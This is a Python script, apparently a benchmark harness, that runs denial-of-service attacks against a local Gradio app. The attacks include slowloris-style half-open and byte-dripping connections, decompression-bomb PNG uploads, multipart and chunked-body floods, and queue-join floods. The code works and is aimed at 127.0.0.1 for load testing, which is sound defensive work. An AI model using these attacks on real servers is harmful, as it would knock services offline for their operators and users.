"""What strangers do to the app of benchmarks/attacks.py: each attack goes on until its end.

python -m benchmarks.attackers --port 7860 --attack half-open --seconds 10
"""

from __future__ import annotations

import argparse
import io
import json
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count
from uuid import uuid4

import httpx
from PIL import Image
from PIL.PngImagePlugin import PngInfo

HALF_OPEN = 1_100
HEAD = b"GET / HTTP/1.1\r\nHost: localhost\r\n"
MIB = 2**20


def nothing(port: int, end: float) -> None:
    """For comparison."""
    time.sleep(max(0, end - time.monotonic()))


def half_open(port: int, end: float) -> None:
    """Requests that never end, opened anew where they are closed."""
    hold(port, end, HALF_OPEN, HEAD, b"")


def dripping(port: int, end: float) -> None:
    """Headers that come a byte at a time."""
    hold(port, end, 200, HEAD + b"a: ", b"a")


def deaf(port: int, end: float) -> None:
    """Many answers are asked for, and none is taken."""
    hold(port, end, 100, (HEAD + b"\r\n") * 50, b"")


def hold(port: int, end: float, number: int, first: bytes, more: bytes) -> None:
    """So many connections; on each `first` is sent, then `more` again and again."""
    held: list[socket.socket | None] = [None] * number
    for turn in count():
        for place, connection in enumerate(held):
            if time.monotonic() > end:
                return
            held[place] = kept(port, connection, first, more)
        time.sleep(0.1 if turn else 0)


def kept(port: int, connection: socket.socket | None, first: bytes, more: bytes):
    """The connection; a new one where there is none any more; None where there can be none."""
    try:
        if connection:
            if more:
                connection.send(more)
            elif first == HEAD and not connection.recv(1):
                raise ConnectionResetError
            return connection
    except BlockingIOError:
        return connection
    except OSError:
        connection.close()
    with suppress(OSError):
        made = socket.socket()
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        made.connect(("127.0.0.1", port))
        made.sendall(first)
        made.setblocking(False)
        return made
    return None


def nonsense(port: int, end: float) -> None:
    """What is no HTTP, as fast as it goes."""
    for _ in until(end):
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), 10) as rude:
            rude.sendall(b"nonsense\r\n\r\n")
            rude.recv(100)


def letters(port: int, end: float) -> None:
    """A picture of 134 bytes whose settings are 16,000 letters, dropped again and again."""
    drop(port, end, picture(16_000))


def unfolding(port: int, end: float) -> None:
    """Likewise of 900,000 letters, and a thousand times."""
    drop(port, end, picture(900_000, more=999))


def drop(port: int, end: float, content: bytes) -> None:
    with client(port) as http:
        restore = function(http, "dropped")
        for _ in until(end):
            (path,) = upload(http, content).json()
            dropped = {"path": path, "meta": {"_type": "gradio.FileData"}}
            call(http, restore, [dropped], uuid4().hex)


def uploads(port: int, end: float) -> None:
    """5 MiB after 5 MiB, which nobody looks at."""
    with client(port) as http:
        for _ in until(end):
            upload(http, b"x" * 5 * MIB)


def parts(port: int, end: float) -> None:
    """A form of 300,000 parts."""
    body = b"--B\r\nA: b\r\n\r\n\r\n" * (5 * MIB // 15)
    headers = {"Content-Type": "multipart/form-data; boundary=B"}
    with client(port) as http:
        for _ in until(end):
            http.post("/gradio_api/upload", content=body, headers=headers)


def crumbs(port: int, end: float) -> None:
    """A body in chunks of one byte."""
    head = (
        b"POST /gradio_api/upload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    for _ in until(end):
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), 10) as slow:
            slow.sendall(head + b"1\r\na\r\n" * 200_000)


def unheard(port: int, end: float) -> None:
    """Drawings that are joined and never listened to."""
    with client(port) as http:
        draw = function(http, "prompt")
        values = values_of(http, draw)
        for _ in until(end):
            call(http, draw, ["a cat", *values[1:]], uuid4().hex)
            time.sleep(0.05)


ATTACKS: dict[str, Callable[[int, float], None]] = {
    each.__name__.replace("_", "-"): each
    for each in (
        nothing, half_open, dripping, deaf, nonsense, letters, unfolding, uploads, parts, crumbs,
        unheard,
    )
}  # fmt: skip


def until(end: float) -> Iterator[int]:
    for turn in count():
        if time.monotonic() > end:
            return
        yield turn


def client(port: int) -> httpx.Client:
    return httpx.Client(base_url=f"http://127.0.0.1:{port}", trust_env=False, timeout=60)


def picture(letters: int, more: int = 0) -> bytes:
    info, content = PngInfo(), io.BytesIO()
    for name in ("parameters", *(f"k{number}" for number in range(more))):
        info.add_text(name, "a" * letters, zip=True)
    Image.new("1", (1, 1)).save(content, "PNG", pnginfo=info)
    return content.getvalue()


def upload(http: httpx.Client, content: bytes) -> httpx.Response:
    return http.post("/gradio_api/upload", files={"files": ("a.png", content)})


def function(http: httpx.Client, input_id: str) -> dict:
    """The page's function whose first input is called so."""
    config = http.get("/config").json()
    ids = {each["id"] for each in config["components"] if each["props"].get("elem_id") == input_id}
    found = [each for each in config["dependencies"] if each["inputs"] and each["inputs"][0] in ids]
    return max(found, key=lambda each: len(each["inputs"]))


def values_of(http: httpx.Client, function: dict) -> list:
    """What the page would send as it is."""
    components = {each["id"]: each for each in http.get("/config").json()["components"]}
    return [components[each]["props"].get("value") for each in function["inputs"]]


def call(http: httpx.Client, function: dict, values: list, session: str) -> None:
    body = {"fn_index": function["id"], "data": values, "session_hash": session}
    http.post("/gradio_api/queue/join", content=json.dumps(body),
              headers={"Content-Type": "application/json"})  # fmt: skip


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--attack", choices=ATTACKS, required=True)
    parser.add_argument("--seconds", type=float, default=10, help="(%(default)s)")
    options = parser.parse_args()
    allow_many_files()
    ATTACKS[options.attack](options.port, time.monotonic() + options.seconds)


def allow_many_files() -> None:
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < 2 * HALF_OPEN:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(2 * HALF_OPEN, hard), hard))


if __name__ == "__main__":
    main()
